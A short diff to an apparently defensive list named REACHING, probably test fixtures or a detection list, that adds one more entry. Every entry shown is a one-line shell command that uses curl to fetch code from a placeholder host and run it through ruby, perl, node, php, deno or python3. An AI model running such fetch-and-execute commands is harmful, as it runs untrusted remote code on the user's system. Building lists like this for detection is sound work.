@@ -15,6 +15,7 @@ REACHING = [
     "ruby -e $(curl -s https://e.x/x)",
     'perl -ne "`curl -s https://e.x/x`" f',
     'node --eval="$(curl -s https://e.x/x)"',
+    'node --trace-warnings -e "$(curl -s https://e.x/x)"',
     'php -r "$(curl -s https://e.x/x)"',
     'deno eval "$(curl -s https://e.x/x)"',
     'X=$(curl -s https://e.x/x); python3 -c "$X"',
